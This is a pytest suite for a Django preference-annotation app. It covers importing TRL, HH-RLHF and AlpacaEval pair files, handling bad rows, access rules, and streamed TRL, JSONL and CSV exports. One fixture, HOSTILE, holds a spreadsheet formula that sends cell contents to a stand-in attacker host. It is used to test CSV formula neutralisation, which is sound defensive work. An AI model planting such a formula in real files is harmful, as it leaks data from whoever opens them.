"""Import of outside preference data and streamed exports: formats, idempotency, bad rows,
TRL pairs that match the human majority, CSV that a spreadsheet cannot execute, access rules."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from annotate import exporters
from annotate.importers import ImportResult, preferences_import
from annotate.models import (
    Assignment,
    Comparison,
    ComparisonStatus,
    Judgment,
    JudgmentSource,
    Prompt,
    Response,
    ResponseSource,
)
from annotate.services import assignment_lease_next, judgment_submit, membership_set
from config.errors import ApplicationError
from tests.annotate.test_judging import annotators, make_round
from tests.factories import UserFactory

pytestmark = pytest.mark.django_db


def jsonl(rows: list) -> bytes:
    return "".join(json.dumps(row) + "\n" for row in rows).encode("utf-8")


def run_import(project, data: bytes, fmt: str, **options) -> ImportResult:
    return preferences_import(project=project, file=io.BytesIO(data), format=fmt, **options)


def table_sizes(project) -> tuple[int, int, int, int]:
    return (
        Prompt.objects.filter(project=project).count(),
        Response.objects.filter(prompt__project=project).count(),
        Comparison.objects.filter(project=project).count(),
        Judgment.objects.filter(comparison__project=project).count(),
    )


def only_pair(prompt: Prompt) -> tuple[Comparison, Judgment]:
    comparison = Comparison.objects.get(prompt=prompt)
    return comparison, Judgment.objects.get(comparison=comparison)


# --- Import formats -------------------------------------------------------------------------


def test_trl_plain_rows_become_external_answers_and_an_imported_judgment(project):
    data = jsonl(
        [
            {"id": "q1", "prompt": "Capital of France?", "chosen": "Paris.", "rejected": "Lyon."},
            {"prompt": "2 + 2?", "chosen": "4", "rejected": "5"},
        ]
    )
    result = run_import(project, data, "trl")

    assert (result.rows_read, result.prompts_created, result.responses_created) == (2, 2, 4)
    assert (result.comparisons_created, result.judgments_created, result.errors) == (2, 2, [])
    assert table_sizes(project) == (2, 4, 2, 2)
    prompt = Prompt.objects.get(project=project, external_id="q1")
    assert (prompt.text, prompt.messages) == ("Capital of France?", None)
    comparison, judgment = only_pair(prompt)
    assert (comparison.response_a.text, comparison.response_b.text) == ("Paris.", "Lyon.")
    assert comparison.round is None
    assert (comparison.status, comparison.judgment_count) == (ComparisonStatus.COMPLETE, 1)
    for response in (comparison.response_a, comparison.response_b):
        assert response.source == ResponseSource.EXTERNAL
        assert response.external_model
        assert (response.model_version, response.round) == (None, None)
    # Chosen is response_a, shown on the left: the sides are recorded as they are.
    assert judgment.choice == "left" and judgment.outcome == "a"
    assert (judgment.left_response_id, judgment.right_response_id) == (
        comparison.response_a_id,
        comparison.response_b_id,
    )
    assert judgment.source == JudgmentSource.IMPORTED and judgment.assignment is None
    assert not judgment.annotator.is_active
    assert not judgment.annotator.has_usable_password()
    assert not Assignment.objects.exists()
    # Without an id the prompt is keyed by a hash of its content.
    assert Prompt.objects.get(project=project, text="2 + 2?").external_id.startswith("sha256:")


def test_trl_conversational_and_implicit_prompt_rows(project):
    chat = [
        {"role": "system", "content": "Be brief."},
        {"role": "user", "content": "Hi"},
        {"role": "assistant", "content": "Hello!"},
        {"role": "user", "content": "Name a colour."},
    ]
    data = jsonl(
        [
            {
                "id": 7,
                "prompt": chat,
                "chosen": [{"role": "assistant", "content": "Blue."}],
                "rejected": [{"role": "assistant", "content": "No."}],
            },
            {
                "chosen": [*chat, {"role": "assistant", "content": "Red."}],
                "rejected": [*chat, {"role": "assistant", "content": "I can't."}],
            },
            {  # a single user turn is stored as plain text
                "prompt": [{"role": "user", "content": "Say hi"}],
                "chosen": [{"role": "assistant", "content": "Hi!"}],
                "rejected": [{"role": "assistant", "content": "..."}],
            },
        ]
    )
    result = run_import(project, data, "trl")

    assert (result.prompts_created, result.comparisons_created, result.errors) == (3, 3, [])
    explicit = Prompt.objects.get(project=project, external_id="7")
    assert (explicit.messages, explicit.text) == (chat, "")
    # The implicit row has no id: its prompt (the shared turns) is keyed by its content.
    implicit = Prompt.objects.get(project=project, external_id__startswith="sha256:", text="")
    assert implicit.messages == chat
    comparison, judgment = only_pair(implicit)
    assert (comparison.response_a.text, comparison.response_b.text) == ("Red.", "I can't.")
    assert judgment.outcome == "a"
    plain = Prompt.objects.get(project=project, text="Say hi")
    assert plain.messages is None


def test_hh_multi_turn_transcript_becomes_a_chat_prompt(project):
    shared = "\n\nHuman: What is a prime?\n\nAssistant: A number with two divisors.\n\nHuman: Is 9?"
    data = jsonl(
        [
            {
                "chosen": shared + "\n\nAssistant: No, 9 = 3 x 3.",
                "rejected": shared + "\n\nAssistant: Yes.",
            },
            {
                "chosen": "\n\nHuman: Hello there\n\nAssistant: Hi! How can I help?",
                "rejected": "\n\nHuman: Hello there\n\nAssistant: Go away.",
            },
        ]
    )
    result = run_import(project, data, "hh")

    assert (result.prompts_created, result.comparisons_created, result.errors) == (2, 2, [])
    chat = Prompt.objects.get(project=project, text="")
    assert chat.messages == [
        {"role": "user", "content": "What is a prime?"},
        {"role": "assistant", "content": "A number with two divisors."},
        {"role": "user", "content": "Is 9?"},
    ]
    comparison, judgment = only_pair(chat)
    assert (comparison.response_a.text, comparison.response_b.text) == ("No, 9 = 3 x 3.", "Yes.")
    assert judgment.outcome == "a"
    single = Prompt.objects.get(project=project, text="Hello there")
    assert single.messages is None
    assert only_pair(single)[0].response_a.text == "Hi! How can I help?"


def test_hh_transcripts_that_differ_before_the_last_answer_are_refused(project):
    data = jsonl(
        [
            {
                "chosen": "\n\nHuman: A?\n\nAssistant: x\n\nHuman: B?\n\nAssistant: y",
                "rejected": "\n\nHuman: A?\n\nAssistant: DIFFERENT\n\nHuman: B?\n\nAssistant: z",
            }
        ]
    )
    result = run_import(project, data, "hh", all_or_nothing=False)
    assert result.rows_failed == 1
    assert "share every turn" in result.errors[0]["error"]
    assert table_sizes(project)[2] == 0


def test_alpaca_eval_preferences_map_to_sides_and_ties(project):
    base = {"generator_1": "davinci-003", "generator_2": "alpaca-7b"}
    data = jsonl(
        [
            {**base, "instruction": "One?", "output_1": "1a", "output_2": "1b", "preference": 1},
            {**base, "instruction": "Two?", "output_1": "2a", "output_2": "2b", "preference": 2},
            {**base, "instruction": "Zero?", "output_1": "0a", "output_2": "0b", "preference": 0},
            {"instruction": "Half?", "output_1": "ha", "output_2": "hb", "preference": 1.5},
            {"instruction": "Lean?", "output_1": "la", "output_2": "lb", "preference": 1.8},
        ]
    )
    result = run_import(project, data, "alpaca_eval")

    assert (result.comparisons_created, result.errors) == (5, [])
    outcomes = {
        j.comparison.prompt.text: (j.outcome, j.choice)
        for j in Judgment.objects.select_related("comparison__prompt")
    }
    assert outcomes == {
        "One?": ("a", "left"),
        "Two?": ("b", "right"),
        "Zero?": ("tie", "tie"),
        "Half?": ("tie", "tie"),
        "Lean?": ("b", "right"),
    }
    comparison = Comparison.objects.get(prompt__text="Two?")
    assert comparison.response_a.text == "2a"  # output_1 is always response_a
    assert comparison.response_a.external_model == "davinci-003"
    assert comparison.response_b.external_model == "alpaca-7b"


def test_alpaca_eval_row_with_identical_outputs_is_skipped_not_paired(project):
    data = jsonl([{"instruction": "Q?", "output_1": "same", "output_2": "same", "preference": 0}])
    result = run_import(project, data, "alpaca_eval")
    assert (result.skipped_identical, result.comparisons_created) == (1, 0)
    assert table_sizes(project) == (1, 1, 0, 0)


def test_importing_the_same_file_twice_adds_nothing(project):
    data = jsonl(
        [
            {"id": "q1", "prompt": "A?", "chosen": "yes", "rejected": "no"},
            {"prompt": "B?", "chosen": "b1", "rejected": "b2"},
            # The same pair again in the other order, within the file: not a second comparison.
            {"prompt": "B?", "chosen": "b2", "rejected": "b1"},
        ]
    )
    first = run_import(project, data, "trl")
    sizes = table_sizes(project)
    second = run_import(project, data, "trl")

    assert (first.comparisons_created, first.skipped_duplicates) == (2, 1)
    assert sizes == (2, 4, 2, 2)
    assert table_sizes(project) == sizes
    assert (second.prompts_created, second.responses_created, second.comparisons_created) == (
        0,
        0,
        0,
    )
    assert (second.judgments_created, second.skipped_duplicates) == (0, 3)


def test_a_new_answer_to_a_known_prompt_reuses_the_prompt_and_the_known_answer(project):
    run_import(project, jsonl([{"prompt": "A?", "chosen": "yes", "rejected": "no"}]), "trl")
    result = run_import(
        project, jsonl([{"prompt": "A?", "chosen": "yes", "rejected": "maybe"}]), "trl"
    )
    assert (result.prompts_created, result.responses_created) == (0, 1)
    assert result.comparisons_created == 1
    assert table_sizes(project) == (1, 3, 2, 2)


BAD_FILE = (
    jsonl(
        [
            {"prompt": "Good one?", "chosen": "yes", "rejected": "no"},
            {"prompt": "Missing rejected?", "chosen": "yes"},
            {"prompt": "Also good?", "chosen": "a", "rejected": "b"},
            {"prompt": "", "chosen": "a", "rejected": "b"},
        ]
    )
    + b"not json\n"
)


def test_all_or_nothing_rejects_the_whole_file_for_any_bad_row(project):
    with pytest.raises(ApplicationError) as caught:
        run_import(project, BAD_FILE, "trl", all_or_nothing=True)
    assert caught.value.http_status == 400
    errors = caught.value.extra["errors"]
    assert [error["row"] for error in errors] == [2, 4, 5]
    assert 'needs "chosen" and "rejected"' in errors[0]["error"]
    assert "invalid JSON" in errors[2]["error"]
    assert table_sizes(project) == (0, 0, 0, 0)


def test_by_default_good_rows_are_kept_and_bad_ones_reported(project):
    result = run_import(project, BAD_FILE, "trl")
    assert (result.rows_read, result.rows_failed, result.comparisons_created) == (5, 3, 2)
    assert [error["row"] for error in result.errors] == [2, 4, 5]
    assert table_sizes(project) == (2, 4, 2, 2)


# As published: HH-RLHF has rows whose chosen reply is empty (a silent answer judged better
# than a harmful one) and rows whose two transcripts part before the last turn.
HH_AS_PUBLISHED = jsonl(
    [
        {"chosen": "\n\nHuman: How do I pick a lock?\n\nAssistant:",
         "rejected": "\n\nHuman: How do I pick a lock?\n\nAssistant: First, get a tension wrench."},
        {"chosen": "\n\nHuman: A?\n\nAssistant: x\n\nHuman: B?\n\nAssistant: y",
         "rejected": "\n\nHuman: A?\n\nAssistant: OTHER\n\nHuman: B?\n\nAssistant: z"},
        {"chosen": "\n\nHuman: Hi\n\nAssistant: Hello!",
         "rejected": "\n\nHuman: Hi\n\nAssistant: Go away."},
    ]
)  # fmt: skip


def test_a_published_hh_file_imports_with_its_empty_answers_and_skips_what_is_no_pair(project):
    result = run_import(project, HH_AS_PUBLISHED, "hh")
    assert (result.rows_read, result.comparisons_created, result.rows_failed) == (3, 2, 1)
    assert result.errors[0]["row"] == 2 and "share every turn" in result.errors[0]["error"]
    assert result.empty_answers == 1 and result.warnings[0]["row"] == 1
    silent = Comparison.objects.get(prompt__text="How do I pick a lock?")
    assert silent.response_a.text == "" and silent.response_b.text.startswith("First")
    assert only_pair(silent.prompt)[1].outcome == "a"  # the empty answer is the better one


def test_a_published_hh_file_trains_its_empty_answers(project):
    from training.runner import preference_rows

    run_import(project, HH_AS_PUBLISHED, "hh")
    project.training_settings = {"evaluation": {"heldout_fraction": 0.0}}
    project.save()
    rows, _ = preference_rows(project)
    assert sorted(row.chosen for row in rows) == ["", "Hello!"]


def test_non_utf8_line_is_reported_with_its_line_number(project):
    good = jsonl([{"prompt": "Fine?", "chosen": "yes", "rejected": "no"}])
    latin1 = '{"prompt": "Café?", "chosen": "oui", "rejected": "non"}\n'.encode("latin-1")
    result = run_import(project, good + b"\n" + latin1, "trl", all_or_nothing=False)
    assert result.rows_failed == 1
    assert result.errors[0]["row"] == 3
    assert "line 3 is not valid UTF-8" in result.errors[0]["error"]
    assert result.comparisons_created == 1


def test_prompt_over_the_project_limit_is_a_row_error(project):
    project.max_prompt_chars = 10
    project.save()
    data = jsonl([{"prompt": "x" * 11, "chosen": "a", "rejected": "b"}])
    result = run_import(project, data, "trl", all_or_nothing=False)
    assert result.errors == [
        {"row": 1, "error": "the prompt is 11 characters; this project's limit is 10"}
    ]


def test_id_reused_for_a_different_prompt_is_a_row_error(project):
    run_import(
        project, jsonl([{"id": "k", "prompt": "One?", "chosen": "a", "rejected": "b"}]), "trl"
    )
    data = jsonl([{"id": "k", "prompt": "Other?", "chosen": "a", "rejected": "b"}])
    result = run_import(project, data, "trl")
    assert result.rows_failed == 1 and result.comparisons_created == 0
    assert "already used by prompt" in result.errors[0]["error"]


def test_file_over_the_size_limit_is_refused(project, settings):
    settings.MAX_IMPORT_BYTES = 100
    data = jsonl([{"prompt": f"Q{i}?", "chosen": "a", "rejected": "b"} for i in range(10)])
    with pytest.raises(ApplicationError) as caught:
        run_import(project, data, "trl", all_or_nothing=False)
    assert (caught.value.http_status, caught.value.code) == (413, "too_large")
    assert table_sizes(project) == (0, 0, 0, 0)


# --- Import API -----------------------------------------------------------------------------


def import_url(project) -> str:
    return f"/api/projects/{project.pk}/import/"


def upload(data: bytes) -> SimpleUploadedFile:
    return SimpleUploadedFile("pairs.jsonl", data, content_type="application/x-ndjson")


def test_api_client_imports_a_file_and_gets_the_counts(project, token_api):
    data = jsonl([{"prompt": "A?", "chosen": "yes", "rejected": "no"}])
    first = token_api.post(
        import_url(project), {"file": upload(data), "format": "trl"}, format="multipart"
    )
    assert first.status_code == 201, first.content
    assert first.json()["comparisons_created"] == 1
    again = token_api.post(
        import_url(project), {"file": upload(data), "format": "trl"}, format="multipart"
    )
    assert again.status_code == 200
    assert (again.json()["comparisons_created"], again.json()["skipped_duplicates"]) == (0, 1)


def test_api_import_keeps_good_rows_unless_told_all_or_nothing(project, admin_api):
    refused = admin_api.post(
        import_url(project),
        {"file": upload(BAD_FILE), "format": "trl", "all_or_nothing": "true"},
        format="multipart",
    )
    assert refused.status_code == 400
    assert [error["row"] for error in refused.json()["errors"]] == [2, 4, 5]
    assert table_sizes(project) == (0, 0, 0, 0)
    kept = admin_api.post(
        import_url(project), {"file": upload(BAD_FILE), "format": "trl"}, format="multipart"
    )
    assert kept.status_code == 201
    assert (kept.json()["comparisons_created"], kept.json()["rows_failed"]) == (2, 3)
    assert kept.json()["empty_answers"] == 0 and kept.json()["warnings"] == []


def test_api_refuses_an_oversized_upload_with_413(project, admin_api, settings):
    settings.MAX_IMPORT_BYTES = 50
    data = jsonl([{"prompt": "A long enough question?", "chosen": "yes", "rejected": "no"}])
    response = admin_api.post(
        import_url(project), {"file": upload(data), "format": "trl"}, format="multipart"
    )
    assert response.status_code == 413
    assert response.json()["error"] == "too_large"


def test_annotator_cannot_import(project, annotator_api):
    data = jsonl([{"prompt": "A?", "chosen": "yes", "rejected": "no"}])
    response = annotator_api.post(
        import_url(project), {"file": upload(data), "format": "trl"}, format="multipart"
    )
    assert response.status_code == 403
    assert table_sizes(project) == (0, 0, 0, 0)


def test_annotator_of_another_project_gets_404_for_import_and_export(project, other_annotator_api):
    data = jsonl([{"prompt": "A?", "chosen": "yes", "rejected": "no"}])
    response = other_annotator_api.post(
        import_url(project), {"file": upload(data), "format": "trl"}, format="multipart"
    )
    assert response.status_code == 404
    for suffix in ("trl/", "judgments.jsonl", "judgments.csv"):
        assert other_annotator_api.get(export_url(project, suffix)).status_code == 404


# --- Export ---------------------------------------------------------------------------------


def export_url(project, suffix: str) -> str:
    return f"/api/projects/{project.pk}/export/{suffix}"


def body(response) -> str:
    assert response.streaming
    return b"".join(response.streaming_content).decode("utf-8")


def judge(project, users, plan: dict[int, list[str]], **submit) -> None:
    """Each user judges every pair they are served, giving the next outcome planned for it."""
    for user in users:
        while (lease := assignment_lease_next(project=project, annotator=user)) is not None:
            outcome = plan[lease.comparison_id].pop(0)
            if outcome in ("a", "b"):
                choice = "left" if (outcome == "a") == lease.a_on_left else "right"
            else:
                choice = outcome
            judgment_submit(assignment_id=lease.pk, annotator=user, choice=choice, **submit)


def test_trl_export_holds_the_majority_choice_and_leaves_out_disagreements(project):
    make_round(project, prompts=4, required=2)
    agree_a, agree_b, split, tie = Comparison.objects.filter(project=project).order_by("id")
    plan = {
        agree_a.pk: ["a", "a"],
        agree_b.pk: ["b", "b"],
        split.pk: ["a", "b"],
        tie.pk: ["tie", "tie"],
    }
    judge(project, annotators(project, 3), plan)

    rows = [json.loads(line) for line in exporters.trl_jsonl_lines(project=project)]

    assert [row["comparison_id"] for row in rows] == [agree_a.pk, agree_b.pk]
    first, second = rows
    assert first["prompt"] == [{"role": "user", "content": agree_a.prompt.text}]
    assert first["chosen"] == [{"role": "assistant", "content": agree_a.response_a.text}]
    assert first["rejected"] == [{"role": "assistant", "content": agree_a.response_b.text}]
    assert second["chosen"][0]["content"] == agree_b.response_b.text
    assert second["rejected"][0]["content"] == agree_b.response_a.text
    assert (first["agreement"], first["weight"], first["judgments"]) == (1.0, 1.0, 2)
    assert "tie" not in first

    with_ties = [
        json.loads(line) for line in exporters.trl_jsonl_lines(project=project, include_ties=True)
    ]
    assert [(row["comparison_id"], row["tie"]) for row in with_ties] == [
        (agree_a.pk, False),
        (agree_b.pk, False),
        (tie.pk, True),
    ]


def test_trl_export_weights_a_two_of_three_majority_by_its_agreement(project):
    make_round(project, prompts=1, required=3)
    comparison = Comparison.objects.get(project=project)
    judge(project, annotators(project, 3), {comparison.pk: ["b", "a", "b"]})

    (row,) = [json.loads(line) for line in exporters.trl_jsonl_lines(project=project)]

    assert row["chosen"][0]["content"] == comparison.response_b.text
    assert row["agreement"] == pytest.approx(2 / 3)
    assert row["weight"] == pytest.approx(2 / 3)
    assert row["judgments"] == 3


def test_trl_export_leaves_out_pairs_still_collecting_judgments(project):
    make_round(project, prompts=1, required=2)
    comparison = Comparison.objects.get(project=project)
    judge(project, annotators(project, 1), {comparison.pk: ["a"]})
    assert list(exporters.trl_jsonl_lines(project=project)) == []


def test_imported_pairs_export_back_as_the_same_trl_pairs(project):
    chat = [
        {"role": "user", "content": "Hi"},
        {"role": "assistant", "content": "Hello!"},
        {"role": "user", "content": "Name a colour."},
    ]
    rows = [
        {"prompt": chat, "chosen": [{"role": "assistant", "content": "Blue."}],
         "rejected": [{"role": "assistant", "content": "No."}]},
        {"prompt": [{"role": "user", "content": "2 + 2?"}],
         "chosen": [{"role": "assistant", "content": "4"}],
         "rejected": [{"role": "assistant", "content": "5"}]},
    ]  # fmt: skip
    run_import(project, jsonl(rows), "trl")

    exported = [json.loads(line) for line in exporters.trl_jsonl_lines(project=project)]

    assert [{k: row[k] for k in ("prompt", "chosen", "rejected")} for row in exported] == rows
    assert [(row["agreement"], row["judgments"]) for row in exported] == [(1.0, 1), (1.0, 1)]


def test_trl_export_is_read_by_the_training_engine(project, tmp_path: Path):
    from training.engine.data import read_preference_jsonl

    make_round(project, prompts=2, required=2)
    first, second = Comparison.objects.filter(project=project).order_by("id")
    judge(project, annotators(project, 2), {first.pk: ["b", "b"], second.pk: ["tie", "tie"]})
    path = tmp_path / "pairs.jsonl"
    path.write_text("".join(exporters.trl_jsonl_lines(project=project, include_ties=True)))

    pair, tie = read_preference_jsonl(path)

    assert (pair.chosen, pair.rejected, pair.target) == (
        first.response_b.text,
        first.response_a.text,
        1.0,
    )
    assert tie.target == 0.5


def test_trl_export_runs_a_fixed_number_of_queries(project, django_assert_max_num_queries):
    make_round(project, prompts=6, required=2)
    plan = {c.pk: ["a", "a"] for c in Comparison.objects.filter(project=project)}
    judge(project, annotators(project, 2), plan)
    # Pairs and their judgments come per chunk, never one query per pair.
    with django_assert_max_num_queries(3):
        assert len(list(exporters.trl_jsonl_lines(project=project))) == 6
    with django_assert_max_num_queries(3):
        assert len(list(exporters.judgments_csv_lines(judgments=Judgment.objects.all()))) == 13


def test_trl_export_api_streams_an_attachment(project, token_api):
    make_round(project, prompts=1, required=1)
    comparison = Comparison.objects.get(project=project)
    judge(project, annotators(project, 1), {comparison.pk: ["a"]})

    response = token_api.get(export_url(project, "trl/"), HTTP_ACCEPT="application/x-ndjson")

    assert response.status_code == 200
    assert response.streaming
    assert response["Content-Type"] == "application/x-ndjson"
    assert response["Content-Disposition"] == 'attachment; filename="helpful-trl.jsonl"'
    (row,) = [json.loads(line) for line in body(response).splitlines()]
    assert row["comparison_id"] == comparison.pk
    ties = token_api.get(export_url(project, "trl/") + "?include_ties=1")
    assert json.loads(body(ties).splitlines()[0])["tie"] is False


def test_annotator_cannot_download_the_trl_training_set(project, annotator_api):
    assert annotator_api.get(export_url(project, "trl/")).status_code == 403


HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1, "click"), with "quotes",\ncommas\nand lines'


def test_judgments_csv_round_trips_and_neutralizes_formulas(project, admin_api):
    make_round(project, prompts=1, required=1)
    comparison = Comparison.objects.get(project=project)
    (user,) = annotators(project, 1)
    judge(project, [user], {comparison.pk: ["a"]}, rationale=HOSTILE, time_spent_ms=1500)
    judgment = Judgment.objects.get()

    response = admin_api.get(export_url(project, "judgments.csv"), HTTP_ACCEPT="text/csv")

    assert response.status_code == 200 and response.streaming
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith("attachment;")
    header, *rows = list(csv.reader(io.StringIO(body(response), newline="")))
    assert header == list(exporters.JUDGMENT_COLUMNS)
    (row,) = [dict(zip(header, values, strict=True)) for values in rows]
    assert row["rationale"] == "'" + HOSTILE
    assert row == {
        "judgment_id": str(judgment.pk),
        "comparison_id": str(comparison.pk),
        "prompt_id": str(comparison.prompt_id),
        "annotator": user.username,
        "choice": judgment.choice,
        "outcome": "a",
        "strength": "",
        "rationale": "'" + HOSTILE,
        "time_spent_ms": "1500",
        "left_response_id": str(judgment.left_response_id),
        "right_response_id": str(judgment.right_response_id),
        "source": "human",
        "created_at": judgment.created_at.isoformat(),
    }


def test_csv_cells_starting_like_a_formula_get_a_quote():
    for value in ("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"):
        assert exporters.csv_safe(value) == "'" + value
    assert exporters.csv_safe("plain = text") == "plain = text"
    assert exporters.csv_safe(-5) == -5
    assert exporters.csv_safe(None) == ""


def test_judgments_jsonl_keeps_text_verbatim(project, token_api):
    make_round(project, prompts=1, required=1)
    comparison = Comparison.objects.get(project=project)
    judge(project, annotators(project, 1), {comparison.pk: ["b"]}, rationale=HOSTILE)

    response = token_api.get(export_url(project, "judgments.jsonl"))

    assert response.streaming and response["Content-Type"] == "application/x-ndjson"
    (row,) = [json.loads(line) for line in body(response).splitlines()]
    assert (row["rationale"], row["outcome"], row["comparison_id"]) == (
        HOSTILE,
        "b",
        comparison.pk,
    )


def test_annotator_export_of_judgments_holds_only_their_own(project, annotator, annotator_api):
    make_round(project, prompts=2, required=2)
    plan = {c.pk: ["a", "b"] for c in Comparison.objects.filter(project=project)}
    someone_else = UserFactory()
    membership_set(project=project, user=someone_else)
    judge(project, [annotator, someone_else], plan)
    assert Judgment.objects.count() == 4

    jsonl_rows = [
        json.loads(line)
        for line in body(annotator_api.get(export_url(project, "judgments.jsonl"))).splitlines()
    ]
    csv_rows = list(
        csv.DictReader(io.StringIO(body(annotator_api.get(export_url(project, "judgments.csv")))))
    )

    own = set(Judgment.objects.filter(annotator=annotator).values_list("id", flat=True))
    assert {row["judgment_id"] for row in jsonl_rows} == own
    assert {int(row["judgment_id"]) for row in csv_rows} == own
    assert {row["annotator"] for row in jsonl_rows + csv_rows} == {"annotator"}


def test_openapi_schema_still_builds(admin_api):
    response = admin_api.get("/api/schema/")
    assert response.status_code == 200
    schema = response.content.decode()
    assert "/api/projects/{project_id}/import/" in schema
    assert "/api/projects/{project_id}/export/judgments.csv" in schema
